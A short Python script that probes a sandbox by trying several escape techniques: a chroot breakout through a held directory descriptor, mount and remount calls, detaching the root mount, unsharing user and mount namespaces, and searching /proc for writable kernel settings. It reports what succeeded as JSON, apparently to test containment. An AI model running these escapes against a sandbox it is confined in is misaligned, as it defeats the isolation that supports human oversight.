"""Tries to leave the sandbox: python3 hostile.py FILE-OUTSIDE. Prints what it could, as JSON; standard library only."""

from __future__ import annotations

import ctypes
import json
import os
import sys
from collections.abc import Callable
from pathlib import Path

_LIBC = ctypes.CDLL(None, use_errno=True)
_NEW_USER, _NEW_MOUNTS, _BIND, _REMOUNT, _READ_ONLY, _DETACH = 0x10000000, 0x20000, 4096, 32, 1, 2


def up_through_chroot(outside: str) -> bool:
    """The oldest way out: a root below the folder that is held open."""
    os.makedirs("/tmp/a/b", exist_ok=True)
    held = os.open("/", os.O_RDONLY)
    os.chroot("/tmp/a/b")
    os.fchdir(held)
    for _ in range(64):
        os.chdir("..")
    return os.path.exists(outside.lstrip("/"))


def mounts(outside: str) -> bool:
    return _LIBC.mount(b"tmpfs", b"/tmp", b"tmpfs", 0, None) == 0


def made_writable(outside: str) -> bool:
    return _LIBC.mount(None, b"/", None, _BIND | _REMOUNT, None) == 0 and writes("/")


def uncovered(outside: str) -> bool:
    return _LIBC.umount2(b"/", _DETACH) == 0 and os.path.exists(outside)


def in_a_namespace_of_its_own(outside: str) -> bool:
    """There it has every capability; what was locked before stays locked."""
    if _LIBC.unshare(_NEW_USER | _NEW_MOUNTS) != 0:
        return False
    _LIBC.umount2(b"/proc", _DETACH)
    return uncovered(outside) or made_writable(outside) or up_through_chroot(outside) or bool(settings())


def writes(folder: str) -> bool:
    try:
        Path(folder, "written").touch()
    except OSError:
        return False
    return True


def settings() -> list[str]:
    """Return files of the kernel, of no process, that can be opened for writing."""
    found = []
    for folder, _, names in os.walk("/proc"):
        if not folder[6:7].isdigit() and folder.split("/")[2:3] not in (["self"], ["thread-self"]):
            for path in (os.path.join(folder, name) for name in names):
                try:
                    os.close(os.open(path, os.O_WRONLY))
                except OSError:
                    continue
                found.append(path)
    return found


def tried(way: Callable[[str], bool], outside: str) -> bool:
    """Try in a process of its own."""
    child = os.fork()
    if not child:
        try:
            os._exit(way(outside))
        except BaseException:  # noqa: BLE001 - whatever refuses it
            os._exit(0)
    return os.waitpid(child, 0)[1] != 0


def main(outside: str) -> None:
    ways = (up_through_chroot, mounts, made_writable, uncovered, in_a_namespace_of_its_own)
    status = dict(line.split(":\t", 1) for line in Path("/proc/self/status").read_text().splitlines())
    print(
        json.dumps({
            "sees": os.path.exists(outside),
            "ways": [way.__name__ for way in ways if tried(way, outside)],
            "written": [folder for folder in ("/", "/usr", "/bound") if writes(folder)],
            "settings": settings(),
            "capabilities": sorted({status[name] for name in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb")}),
            "can gain": status["NoNewPrivs"] != "1",
            "session": os.getsid(0) != 0,
        })
    )  # fmt: skip


main(sys.argv[1])
